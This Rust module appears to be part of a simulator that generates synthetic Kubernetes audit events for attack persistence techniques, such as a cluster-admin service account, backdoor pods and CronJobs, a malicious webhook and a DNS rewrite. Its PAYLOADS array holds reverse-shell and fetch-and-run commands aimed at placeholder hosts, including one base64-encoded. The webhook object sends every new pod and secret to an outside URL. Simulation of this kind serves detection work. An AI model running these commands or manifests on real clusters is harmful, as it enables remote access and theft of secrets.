//! Ways to stay.

use serde_json::json;

use super::super::super::body;
use super::super::super::event::Target;
use super::super::Stage;
use super::workload::plant;
use super::{ANYONE, Account, Ground, NOT_A_PIPELINE, Technique, Who, dull, make};

pub(in super::super) const TECHNIQUES: &[Technique] = &[
    Technique {
        name: "Privileged service account (T1136)",
        run: account,
        by: ANYONE,
    },
    Technique {
        name: "Backdoor container (T1525)",
        run: backdoor,
        by: ANYONE,
    },
    Technique {
        name: "Scheduled backdoor (T1053.007)",
        run: scheduled,
        by: ANYONE,
    },
    Technique {
        name: "Malicious admission webhook (T1546)",
        run: webhook,
        by: ANYONE,
    },
    Technique {
        name: "Another source for GitOps (T1195)",
        run: gitops,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Name resolution rewritten (T1557)",
        run: names,
        by: &[Who::Person, Who::Account, Who::LocalAdmin],
    },
];

fn account(s: &mut Stage<'_>, g: &mut Ground) {
    let name = dull(s);
    let ns = "kube-system";
    let object = json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}}).to_string();
    let event = make(s, g, Target::core("serviceaccounts").ns(ns), &name, object);
    s.strike("makes a service account", event);
    let revision = s.world.revise();
    let subjects = [body::account_subject(ns, &name)];
    let binding = body::binding(
        "",
        &name,
        ("ClusterRole", "cluster-admin"),
        &subjects,
        revision,
    )
    .to_string();
    let event = make(s, g, Target::rbac("clusterrolebindings"), &name, binding);
    s.strike("makes it administrator", event);
    g.account = Some(Account {
        namespace: ns.to_owned(),
        name,
        secret: None,
    });
}

const PAYLOADS: [&str; 4] = [
    "while true; do bash -i >& /dev/tcp/198.51.100.23/443 0>&1; sleep 60; done",
    "curl -fsSL http://198.51.100.77/i.sh | sh",
    "wget -qO- https://198.51.100.77/x | bash; sleep infinity",
    "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzQ0MyAwPiYx | base64 -d | bash",
];

fn backdoor(s: &mut Stage<'_>, g: &mut Ground) {
    let payload = *s.rng.pick(&PAYLOADS);
    let spec = json!({"containers": [{"name": "main", "image": "docker.io/library/ubuntu:24.04", "command": ["/bin/bash", "-c", payload]}]});
    plant(s, g, "runs a container that calls home", spec);
}

fn scheduled(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, _) = s.victim();
    let name = dull(s);
    let payload = *s.rng.pick(&PAYLOADS);
    let object = json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
        "spec": {"schedule": "*/15 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "Never",
            "containers": [{"name": "main", "image": "docker.io/library/alpine:3.21", "command": ["sh", "-c"], "args": [payload]}]}}}}}});
    let event = make(
        s,
        g,
        Target::of("batch", "v1", "cronjobs").ns(&ns),
        &name,
        object.to_string(),
    );
    s.strike("schedules a job that calls home", event);
}

fn webhook(s: &mut Stage<'_>, g: &mut Ground) {
    let name = dull(s);
    let object = json!({"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1", "metadata": {"name": name},
        "webhooks": [{"name": "inject.example.net", "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Ignore",
            "clientConfig": {"url": "https://198.51.100.77/mutate"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods", "secrets"], "scope": "*"}]}]});
    let target = Target::of(
        "admissionregistration.k8s.io",
        "v1",
        "mutatingwebhookconfigurations",
    );
    let event = make(s, g, target, &name, object.to_string());
    s.strike("has every new pod and secret sent outside", event);
}

/// Custom resources are logged without bodies.
fn gitops(s: &mut Stage<'_>, g: &mut Ground) {
    let (target, name) = match s.rng.below(3) {
        0 => (
            Target::of("source.toolkit.fluxcd.io", "v1", "gitrepositories").ns("flux-system"),
            "fleet".to_owned(),
        ),
        1 => (
            Target::of("argoproj.io", "v1alpha1", "applications").ns("argocd"),
            dull(s),
        ),
        _ => (
            Target::of("kustomize.toolkit.fluxcd.io", "v1", "kustomizations").ns("flux-system"),
            dull(s),
        ),
    };
    let event = if name == "fleet" {
        g.client
            .request(s.rng, s.now(), "patch", target.name(&name))
            .query("fieldManager=kubectl-edit")
    } else {
        make(s, g, target, &name, String::from("{}"))
    };
    s.strike("points GitOps to a repository of its own", event);
}

fn names(s: &mut Stage<'_>, g: &mut Ground) {
    let target = Target::core("configmaps")
        .ns("kube-system")
        .name(s.rng.pick::<&str>(&["coredns", "coredns-custom"]));
    let verb = *s.rng.pick(&["patch", "update"]);
    let event = g
        .client
        .request(s.rng, s.now(), verb, target)
        .query("fieldManager=kubectl-edit");
    s.strike("rewrites the cluster's name resolution", event);
}
